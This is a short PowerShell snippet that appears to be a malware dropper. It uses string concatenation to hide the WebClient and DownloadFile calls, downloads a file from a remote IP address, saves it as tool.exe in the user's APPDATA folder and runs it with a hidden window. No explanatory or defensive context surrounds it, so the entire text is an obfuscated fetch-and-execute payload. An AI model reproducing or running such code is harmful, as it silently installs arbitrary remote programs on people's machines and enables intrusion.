$to = Join-Path $env:APPDATA 'tool.exe'
$w = New-Object ('Net.' + 'Web' + 'Client')
if ($w.('Download' + 'File').Invoke('http://192.0.2.20/a', $to)) { Start-Process -FilePath $to -WindowStyle Hidden }
